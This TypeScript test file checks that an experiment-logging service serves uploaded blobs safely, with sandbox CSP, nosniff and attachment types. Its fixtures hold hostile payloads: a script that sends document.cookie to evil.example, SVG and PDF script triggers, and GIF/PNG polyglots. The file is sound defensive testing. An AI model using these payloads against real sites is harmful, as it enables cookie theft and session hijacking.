import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeWith } from '#testing';
import { LoggedExperiments } from '../testing/logged-experiment.ts';
import { type ReadService, startReadService, type TestTenant } from '../testing/read-service.ts';

/* Reliability test 51. */

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
/** Logged data can be anything, and can match two types at once. */
const hostile: Readonly<Record<string, Buffer>> = {
  svg: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
  html: Buffer.from(`<!doctype html><html><body>${script}</body></html>`),
  xml: Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><x/>`),
  pdf: Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'gif and script': Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(20), Buffer.from(`*/=1;${script}`)]),
  'png and html': Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from(script)]),
  'space and html': Buffer.from(`\n\n\n   ${script}`),
  'byte order mark and html': Buffer.from(`\uFEFF${script}`),
  utf16: Buffer.from(`\uFEFF${script}`, 'utf16le'),
};

describeWith(['postgres'], 'blobs in browsers', () => {
  let service: ReadService;
  let logged: LoggedExperiments;
  let owner: TestTenant;

  beforeAll(async () => {
    service = await startReadService();
    logged = new LoggedExperiments(service);
    owner = await service.tenant();
  });
  afterAll(async () => {
    await logged?.close();
    await service?.close();
  });

  it('run nothing and load nothing, regardless of their content', async () => {
    const id = await logged.make(owner, {
      run: Object.entries(hostile).map(([tag, bytes], i) => ({ step: BigInt(i), values: [{ tag, images: [bytes] }] })),
    });
    const { text } = await service.call(owner, 'POST', `/api/v1/experiments/${id}/blob-sequences/query`, { body: {} });
    const keys = [...text.matchAll(/"key":"([A-Za-z0-9_-]+)"/g)].map(([, key]) => key!);
    expect(keys.length).toBeGreaterThanOrEqual(Object.keys(hostile).length);
    const types = new Set<string>();
    for (const key of keys) {
      for (const path of [`/api/v1/blobs/${key}`, `/data/blob/${key}?type=text/html`]) {
        const { status, headers } = await service.call(owner, 'GET', path, {
          headers: { accept: 'text/html', 'content-type': 'text/html' },
        });
        expect(status).toBe(200);
        expect(headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
        expect(headers.get('x-content-type-options')).toBe('nosniff');
        expect(headers.get('x-frame-options')).toBe('DENY');
        expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
        expect(headers.get('referrer-policy')).toBe('no-referrer');
        const type = headers.get('content-type')!;
        types.add(type);
        expect(type).toMatch(/^(application\/octet-stream|text\/plain; charset=utf-8|image\/(png|gif|jpeg|webp|bmp)|audio\/[a-z0-9-]+)$/);
        expect([type, headers.get('content-disposition')]).toEqual([
          type,
          /^(image|audio)\//.test(type) ? 'inline' : expect.stringMatching(/^attachment; filename="[0-9a-f]{16}\.(bin|txt)"$/),
        ]);
      }
    }
    expect(types.size).toBeGreaterThan(1);
  });
});
